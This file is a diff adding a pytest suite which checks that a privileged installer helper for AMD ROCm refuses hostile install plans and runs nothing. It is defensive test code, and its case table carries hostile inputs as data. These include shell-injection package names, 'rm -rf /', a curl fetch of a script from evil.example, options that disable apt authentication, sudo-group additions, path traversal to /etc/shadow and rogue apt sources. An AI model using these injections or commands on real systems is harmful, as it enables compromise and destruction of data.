@@ -1,0 +1,417 @@
+"""The privileged helper refuses hostile input, and refusing runs nothing and writes nothing.
+
+Every case of the table is checked twice:
+
+* in-process, against a small fake system (passwd, group, apt folders, planted symbolic links):
+  ``check_input`` refuses it with the expected reason (runs anywhere, no root needed);
+* for real, as root, inside a throwaway Debian root (mmdebstrap + chroot): ``--check`` exits 2 with
+  the reason, and a real run exits 2 under an audit hook (tests/install/audit_run.py) that records
+  any process start or file write: the record stays empty, a sentinel file is never created, and
+  /etc, /home, /opt and dpkg's database are unchanged.
+"""
+
+from __future__ import annotations
+
+import base64
+import dataclasses
+import io
+import json
+import shutil
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from core.install import helper
+from core.install._helper_target import Policy, Target
+from core.install._helper_validate import MAX_INPUT_BYTES, MAX_STEPS, check_input
+from core.knowledge.base import load_knowledge
+from tests.install.support import (
+    TORCH_LIB,
+    TORCH_LIB_LINKED,
+    TRUSTED_FPR,
+    TRUSTED_KEY,
+    UNTRUSTED_FPR,
+    UNTRUSTED_KEY,
+    add_accounts_in_chroot,
+    add_fixtures,
+    armor,
+    command_step,
+    copy_root,
+    install_rocmate,
+    keyring_step,
+    pin_content,
+    pin_step,
+    plan,
+    run_helper,
+    snapshot,
+    source_line,
+    source_step,
+    step,
+    synthetic_key,
+    write_accounts,
+)
+
+AMD_URI = "https://repo.radeon.com/rocm/apt/6.2"
+SENTINEL = "tmp/PWNED"
+WATCHED = ("etc", "home", "opt/rocmate", "var/lib/dpkg")
+
+
+@dataclass(frozen=True)
+class Case:
+    """One hostile input and a piece of the reason the helper must give."""
+
+    name: str
+    payload: bytes
+    reason: str
+
+
+def _key() -> dict[str, Any]:
+    """A keyring step the policy accepts (so that later steps are judged on their own)."""
+    return keyring_step(TRUSTED_KEY, TRUSTED_FPR)
+
+
+def _install(*packages: str) -> bytes:
+    return plan(command_step("install", "apt-get", "install", "-y", *packages))
+
+
+def _argv(*argv: str, **fields: Any) -> bytes:
+    return plan(command_step("cmd", *argv, **fields))
+
+
+def _source(content: str, name: str = "rocm.list") -> bytes:
+    return plan(_key(), source_step(content, name=name))
+
+
+def _file(path: str, content: str = "x\n", **extra: Any) -> bytes:
+    return plan(step("file", file={"path": path, "content": content, **extra}))
+
+
+def _raw_steps(*steps: Any) -> bytes:
+    return json.dumps({"schema": "rocmate.plan/1", "steps": list(steps)}).encode()
+
+
+def _two_keys() -> bytes:
+    both = base64.b64encode(TRUSTED_KEY + UNTRUSTED_KEY).decode()
+    spec = {"path": "/etc/apt/keyrings/rocm.gpg", "content_b64": both}
+    return plan(step("key", file=spec, key_fingerprint=TRUSTED_FPR))
+
+
+def _secret_key() -> bytes:
+    secret = synthetic_key("secret", tag=5)
+    return plan(keyring_step(secret, TRUSTED_FPR))
+
+
+def _v3_key() -> bytes:
+    return plan(keyring_step(synthetic_key("old", version=3), TRUSTED_FPR))
+
+
+DEB822_TRUSTED = (
+    "Types: deb\nURIs: https://repo.radeon.com/rocm/apt/6.2\nSuites: jammy\nComponents: main\n"
+    "Architectures: amd64\nSigned-By: /etc/apt/keyrings/rocm.gpg\nTrusted: yes\n"
+)
+
+CASES = [
+    # shell metacharacters where a name is expected
+    Case("pkg-semicolon", _install("rocm;touch /tmp/PWNED"), "shell metacharacter ';'"),
+    Case("pkg-pipe", _install("rocm|touch /tmp/PWNED"), "shell metacharacter '|'"),
+    Case("pkg-ampersand", _install("rocm&&touch /tmp/PWNED"), "shell metacharacter '&'"),
+    Case("pkg-dollar-paren", _install("$(touch /tmp/PWNED)"), "shell metacharacter '$'"),
+    Case("pkg-backtick", _install("`touch /tmp/PWNED`"), "shell metacharacter '`'"),
+    Case("pkg-redirect-out", _install("rocm>/tmp/PWNED"), "shell metacharacter '>'"),
+    Case("pkg-redirect-in", _install("rocm</etc/shadow"), "shell metacharacter '<'"),
+    Case("pkg-space", _install("rocm touch"), "shell metacharacter ' '"),
+    Case("pkg-newline", _install("rocm\ntouch /tmp/PWNED"), "shell metacharacter '\\n'"),
+    Case("pkg-glob", _install("rocm*"), "shell metacharacter '*'"),
+    Case("pkg-nul-escape", _install("rocm\u0000"), "U+0000"),
+    Case("pkg-unicode", _install("rocm\u2011core"), "U+2011"),
+    # option injection and names outside the allow-list
+    Case("apt-o-option", _install("-o", "APT::Get::AllowUnauthenticated=true", "rocm"),
+         "option '-o' is not allowed"),
+    Case("apt-allow-unauthenticated", _install("--allow-unauthenticated", "rocm"),
+         "option '--allow-unauthenticated' is not allowed"),
+    Case("pkg-leading-dash", _install("rocm", "-oAPT::Get::AllowUnauthenticated=1"),
+         "option injection"),
+    Case("pkg-not-allowed", _install("openssh-server"), "not on the allow-list"),
+    Case("pkg-trailing-dash-removes", _install("rocm-"), "not on the allow-list"),
+    Case("pkg-version-pin", _install("rocm=6.2.0"), "not on the allow-list"),
+    Case("pkg-local-deb", _install("./rocm-core.deb"), "not on the allow-list"),
+    Case("pkg-traversal", _install("rocm..core"), "not on the allow-list"),
+    Case("apt-without-y", _argv("apt-get", "install", "rocm"), "needs -y"),
+    Case("apt-dist-upgrade", _argv("apt-get", "dist-upgrade", "-y"), "is not allowed"),
+    Case("apt-update-option", _argv("apt-get", "update", "-o",
+                                    "Acquire::AllowInsecureRepositories=true"),
+         "takes no arguments"),
+    Case("purge-without-consent", _argv("apt-get", "purge", "-y", "rocm"), "consent"),
+    Case("purge-consent-false", _argv("apt-get", "purge", "-y", "rocm", consent=False),
+         "did not consent"),
+    # verbs that are not in the table
+    Case("verb-rm", _argv("rm", "-rf", "/"), "unknown verb 'rm'"),
+    Case("verb-bash-c", _argv("bash", "-c", "touch /tmp/PWNED"), "unknown verb 'bash'"),
+    Case("verb-sh", _argv("sh"), "unknown verb 'sh'"),
+    Case("verb-curl", _argv("curl", "-fsSL", "https://evil.example/x.sh"), "unknown verb 'curl'"),
+    Case("verb-apt-key", _argv("apt-key", "add", "/tmp/key"), "unknown verb 'apt-key'"),
+    Case("verb-dpkg-i", _argv("dpkg", "-i", "/tmp/x.deb"), "unknown verb 'dpkg'"),
+    Case("verb-absolute-path", _argv("/usr/bin/apt-get", "update"), "give the bare name"),
+    Case("verb-env", _argv("env", "apt-get", "update"), "unknown verb 'env'"),
+    # usermod
+    Case("usermod-no-such-user", _argv("usermod", "-aG", "render,video", "nosuchuser"),
+         "does not exist"),
+    Case("usermod-group-sudo", _argv("usermod", "-aG", "sudo", "tester"), "'sudo' is not allowed"),
+    Case("usermod-group-root", _argv("usermod", "-aG", "render,root", "tester"),
+         "'root' is not allowed"),
+    Case("usermod-group-wheel", _argv("usermod", "-aG", "wheel", "tester"),
+         "'wheel' is not allowed"),
+    Case("usermod-user-root", _argv("usermod", "-aG", "render,video", "root"), "system account"),
+    Case("usermod-user-nobody", _argv("usermod", "-aG", "video", "nobody"), "system account"),
+    Case("usermod-user-option", _argv("usermod", "-aG", "video", "-R"), "starts with '-'"),
+    Case("usermod-user-meta", _argv("usermod", "-aG", "video", "tester;id"),
+         "shell metacharacter ';'"),
+    Case("usermod-other-form", _argv("usermod", "-G", "video", "tester"), "usermod must be"),
+    # amdgpu-install
+    Case("amdgpu-unknown-usecase", _argv("amdgpu-install", "-y", "--usecase=evil"),
+         "not allowed"),
+    Case("amdgpu-uninstall", _argv("amdgpu-install", "-y", "--usecase=rocm", "--uninstall"),
+         "'--uninstall' is not allowed"),
+    Case("amdgpu-without-y", _argv("amdgpu-install", "--usecase=wsl,rocm"), "must start with -y"),
+    # the input itself
+    Case("non-utf8", b'[{"id": "\xff\xfe", "privileged": true}]', "not UTF-8"),
+    Case("nul-byte", b'[{"id": "a\x00", "privileged": true}]', "NUL byte"),
+    Case("oversized", b"[" + b" " * MAX_INPUT_BYTES + b"]", "larger than 256 KiB"),
+    Case("too-many-steps",
+         plan(*(command_step(f"u{i}", "apt-get", "update") for i in range(MAX_STEPS + 1))),
+         "at most 64"),
+    Case("deeply-nested", b"[" * 10000 + b"]" * 10000, "nests deeper"),
+    Case("not-json", b"apt-get install rocm; touch /tmp/PWNED", "not valid JSON"),
+    Case("nan", b'[{"id": "a", "privileged": true, "consent": NaN}]', "NaN is not allowed"),
+    Case("duplicate-key", b'[{"id": "a", "privileged": true, "argv": ["apt-get", "update"], '
+                          b'"argv": ["rm", "-rf", "/"]}]', "appears twice"),
+    Case("wrong-schema", json.dumps({"schema": "rocmate.plan/2", "steps": []}).encode(),
+         "schema"),
+    Case("top-level-string", b'"apt-get update"', "plan object or a list"),
+    Case("argv-is-string", _raw_steps(step("s", argv="apt-get update")), "argv must be"),
+    Case("argv-has-number", _raw_steps(step("s", argv=["apt-get", 1])), "must be a string"),
+    Case("privileged-not-bool", _raw_steps({"id": "s", "privileged": "yes", "argv": ["sh"]}),
+         "privileged"),
+    Case("step-not-object", _raw_steps(["apt-get", "update"]), "not an object"),
+    Case("unknown-field", _raw_steps(step("s", argv=["apt-get", "update"], shell=True)),
+         "unknown field(s) shell"),
+    Case("argv-and-file", _raw_steps(step("s", argv=["apt-get", "update"],
+                                          file={"path": "/etc/apt/x", "content": ""})),
+         "exactly one of argv and file"),
+    Case("no-action", _raw_steps(step("s")), "exactly one of argv and file"),
+    Case("id-metachar", _raw_steps(step("a;b", argv=["apt-get", "update"])), "id must be"),
+    Case("title-escape", _raw_steps(step("s", argv=["apt-get", "update"], title="\x1b[2J")),
+         "control character"),
+    # file paths
+    Case("path-traversal", _file("/etc/apt/keyrings/../../shadow"), "path traversal"),
+    Case("path-outside", _file("/etc/sudoers.d/rocm"), "is outside"),
+    Case("path-sources-list", _file("/etc/apt/sources.list"), "is outside"),
+    Case("path-relative", _file("etc/apt/keyrings/rocm.gpg"), "not an absolute path"),
+    Case("path-double-slash", _file("//etc/apt/keyrings/rocm.gpg"), "'//'"),
+    Case("symlinked-keyring", plan(keyring_step(TRUSTED_KEY, TRUSTED_FPR, name="evil.gpg")),
+         "symbolic link"),
+    Case("symlinked-source", plan(_key(), source_step(source_line(AMD_URI), name="evil.list")),
+         "symbolic link"),
+    Case("symlinked-pin", plan(pin_step(name="evil")), "symbolic link"),
+    Case("file-mode", _file("/etc/apt/preferences.d/rocm-pin-600", pin_content(), mode="4755"),
+         "mode"),
+    Case("file-append", _file("/etc/apt/preferences.d/rocm-pin-600", pin_content(), append=True),
+         "append"),
+    # keyrings
+    Case("key-untrusted", plan(keyring_step(UNTRUSTED_KEY, UNTRUSTED_FPR)), "is not trusted"),
+    Case("key-fingerprint-mismatch", plan(keyring_step(UNTRUSTED_KEY, TRUSTED_FPR)),
+         "is not the step's key_fingerprint"),
+    Case("key-two-primaries", _two_keys(), "2 primary keys"),
+    Case("key-secret", _secret_key(), "does not start with a public key"),
+    Case("key-v3", _v3_key(), "only version 4"),
+    Case("key-garbage", plan(keyring_step("not a key at all", TRUSTED_FPR)),
+         "not one OpenPGP public key"),
+    Case("key-bad-crc", plan(keyring_step(armor(TRUSTED_KEY).replace("\n=", "\n=AAAA\n#"),
+                                          TRUSTED_FPR)),
+         "not one OpenPGP public key"),
+    Case("key-no-fingerprint", plan(step("k", file={"path": "/etc/apt/keyrings/rocm.gpg",
+                                                    "content": armor(TRUSTED_KEY)})),
+         "needs key_fingerprint"),
+    Case("key-fingerprint-spaces",
+         plan(keyring_step(TRUSTED_KEY, " ".join([TRUSTED_FPR[:20], TRUSTED_FPR[20:]]))),
+         "needs key_fingerprint"),
+    # apt source lines
+    Case("source-trusted-yes",
+         _source(f"deb [arch=amd64 signed-by=/etc/apt/keyrings/rocm.gpg trusted=yes] {AMD_URI} "
+                 "jammy main\n"), "is not 'deb ["),
+    Case("source-allow-insecure",
+         _source(f"deb [allow-insecure=yes] {AMD_URI} jammy main\n"), "is not 'deb ["),
+    Case("source-no-signed-by", _source(f"deb {AMD_URI} jammy main\n"), "is not 'deb ["),
+    Case("source-evil-uri", _source(source_line("http://evil.example/rocm/apt/6.2")),
+         "not an allowed repository"),
+    Case("source-http-amd", _source(source_line("http://repo.radeon.com/rocm/apt/6.2")),
+         "not an allowed repository"),
+    Case("source-userinfo-uri",
+         _source(source_line("https://repo.radeon.com@evil.example/rocm/apt/6.2")), "malformed"),
+    Case("source-uri-traversal",
+         _source(source_line("https://repo.radeon.com/rocm/apt/../../evil")), "malformed"),
+    Case("source-wrong-signed-by",
+         _source(source_line(AMD_URI, keyring="/usr/share/keyrings/debian-archive-keyring.gpg")),
+         "not under /etc/apt/keyrings/"),
+    Case("source-other-keyring",
+         _source(source_line(AMD_URI, keyring="/etc/apt/keyrings/other.gpg")),
+         "not written by an earlier keyring step"),
+    Case("source-suite-meta", _source(source_line(AMD_URI, suite="jammy;id")), "suite"),
+    Case("source-unknown-suite", _source(source_line(AMD_URI, suite="sid")), "suite"),
+    Case("source-component", _source(source_line(AMD_URI, component="contrib")), "component"),
+    Case("source-deb-src", _source(f"deb-src {AMD_URI} jammy main\n"), "is not 'deb ["),
+    Case("source-second-line-evil",
+         _source(source_line(AMD_URI) + source_line("https://evil.example/x")),
+         "not an allowed repository"),
+    Case("source-deb822-trusted", _source(DEB822_TRUSTED, name="rocm.sources"), "not allowed"),
+    Case("source-control-char", _source("# \x1b]0;x\x07\n" + source_line(AMD_URI)),
+         "control character U+001B"),
+    Case("source-name", _source(source_line(AMD_URI), name="rocm.list.save"), "file name"),
+    Case("source-fingerprint-field",
+         plan(_key(), {**source_step(source_line(AMD_URI)), "key_fingerprint": TRUSTED_FPR}),
+         "belongs only on a keyring step"),
+    # apt pins
+    Case("pin-other-origin", plan(pin_step(pin_content("evil.example"))), "not allowed"),
+    Case("pin-priority", plan(pin_step(pin_content(priority=1001))), "must be exactly"),
+    Case("pin-extra-line", plan(pin_step(pin_content() + "Package: openssh-server\n")),
+         "must be exactly"),
+    # the WSL runtime swap
+    Case("hsa-traversal", _argv("rocmate-hsa-swap", "/home/tester/../../etc/torch/lib"),
+         "path traversal"),
+    Case("hsa-outside-home",
+         _argv("rocmate-hsa-swap", "/usr/lib/python3/dist-packages/torch/lib"),
+         "neither under a user's home"),
+    Case("hsa-root-home",
+         _argv("rocmate-hsa-swap", "/root/venv/lib/python3.11/site-packages/torch/lib"),
+         "neither under a user's home"),
+    Case("hsa-symlinked", _argv("rocmate-hsa-swap", TORCH_LIB_LINKED), "symbolic link"),
+    Case("hsa-not-torch", _argv("rocmate-hsa-swap", "/home/tester/.ssh"), "torch/lib folder"),
+]
+
+
+def test_the_table_is_large_and_unique() -> None:
+    assert len(CASES) >= 40
+    assert len({case.name for case in CASES}) == len(CASES)
+
+
+# --------------------------------------------------------------------------------------------
+# in-process, on a fake system
+
+
+@pytest.fixture(scope="module")
+def fake_target(tmp_path_factory: pytest.TempPathFactory) -> Target:
+    root = tmp_path_factory.mktemp("fake-root")
+    write_accounts(root)
+    add_fixtures(root)
+    return Target(str(root))
+
+
+@pytest.fixture(scope="module")
+def policy() -> Policy:
+    """The shipped policy, plus the synthetic test key."""
+    shipped = Policy.from_knowledge(load_knowledge())
+    trusted = shipped.trusted_fingerprints | {TRUSTED_FPR}
+    return dataclasses.replace(shipped, trusted_fingerprints=trusted)
+
+
+def _reasons(refused: Any) -> str:
+    return "\n".join(r.reason for r in refused)
+
+
+def test_a_good_plan_is_accepted(fake_target: Target, policy: Policy) -> None:
+    """The control: the same building blocks, without the hostile part, pass."""
+    good = plan(
+        _key(), source_step(source_line(AMD_URI)), pin_step(),
+        command_step("update", "apt-get", "update"),
+        command_step("install", "apt-get", "install", "-y", "--no-install-recommends",
+                     "rocm-hip-runtime", "rocminfo", "rocm6.2.0", "linux-headers-6.8.0-45-generic"),
+        command_step("purge", "apt-get", "purge", "-y", "rocm-core5.7.1", consent=True),
+        command_step("groups", "usermod", "-aG", "render,video", "tester", after="relogin"),
+        command_step("wsl", "amdgpu-install", "-y", "--usecase=wsl,rocm", "--no-dkms"),
+        command_step("swap", "rocmate-hsa-swap", TORCH_LIB),
+        {**command_step("venv", "python3", "-m", "venv", "/x;y"), "privileged": False},
+    )
+    result = check_input(good, fake_target, policy)
+    assert result.ok, _reasons(result.refused)
+    assert [a.verb for a in result.actions] == [
+        "keyring", "apt-source", "apt-pin", "apt-update", "apt-install", "apt-purge",
+        "usermod", "amdgpu-install", "hsa-swap",
+    ]
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
+def test_check_refuses(case: Case, fake_target: Target, policy: Policy) -> None:
+    result = check_input(case.payload, fake_target, policy)
+    assert not result.ok and not result.actions
+    assert case.reason in _reasons(result.refused), _reasons(result.refused)
+
+
+def test_check_answer_shape() -> None:
+    """``--check`` prints one JSON object and exits 2, naming the step and the reason."""
+    out = io.StringIO()
+    code = helper.main(["--check"], stdin=io.BytesIO(_argv("rm", "-rf", "/")), stdout=out)
+    answer = json.loads(out.getvalue())
+    assert code == 2 and answer["ok"] is False
+    [refusal] = answer["refused"]
+    assert refusal["index"] == 0 and refusal["id"] == "cmd"
+    assert "unknown verb 'rm'" in refusal["reason"]
+
+
+def test_bad_command_line() -> None:
+    assert helper.main(["--check", "--yes"], stdin=io.BytesIO(b"[]"), stdout=io.StringIO()) == 3
+
+
+# --------------------------------------------------------------------------------------------
+# for real, as root, in a throwaway Debian root
+
+
+@pytest.fixture(scope="module")
+def hostile_root(
+    debian_root: Path, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[Path]:
+    with copy_root(debian_root, tmp_path_factory.mktemp("hostile") / "copy") as root:
+        install_rocmate(root, fingerprints=[TRUSTED_FPR])
+        add_accounts_in_chroot(root)
+        add_fixtures(root)
+        shutil.copy(Path(__file__).with_name("audit_run.py"), root / "opt/rocmate/audit_run.py")
+        yield root
+
+
+@pytest.mark.root
+@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
+def test_hostile_input_runs_nothing(case: Case, hostile_root: Path) -> None:
+    root = hostile_root
+    before = snapshot(root, WATCHED)
+    check = run_helper(root, case.payload, "--check")
+    assert check.code == 2, check.stdout + check.stderr
+    answer = json.loads(check.stdout)
+    assert answer["ok"] is False
+    assert case.reason in "\n".join(r["reason"] for r in answer["refused"])
+
+    log = root / "tmp/audit.log"
+    log.unlink(missing_ok=True)
+    run = run_helper(root, case.payload,
+                     python_args=("-I", "-B", "/opt/rocmate/audit_run.py", "/tmp/audit.log"))
+    assert run.code == 2, run.stdout + run.stderr
+    assert [e["event"] for e in run.events] == ["refused", "done"]
+    assert run.events[-1]["ok"] is False and case.reason in run.events[-1]["error"]
+    assert log.read_text() == "", "the helper tried to run or write something"
+    assert not (root / SENTINEL).exists()
+    assert snapshot(root, WATCHED) == before
+
+
+@pytest.mark.root
+def test_the_audit_hook_would_see_a_write(hostile_root: Path) -> None:
+    """The control for the test above: an accepted plan does try to write, the hook records
+    and blocks it, so an empty record really means "nothing was attempted"."""
+    root = hostile_root
+    log = root / "tmp/audit.log"
+    log.unlink(missing_ok=True)
+    run = run_helper(root, plan(pin_step()),
+                     python_args=("-I", "-B", "/opt/rocmate/audit_run.py", "/tmp/audit.log"))
+    assert run.code == 1, run.stdout + run.stderr
+    assert "open" in log.read_text()
+    assert not (root / "etc/apt/preferences.d/rocm-pin-600").exists()
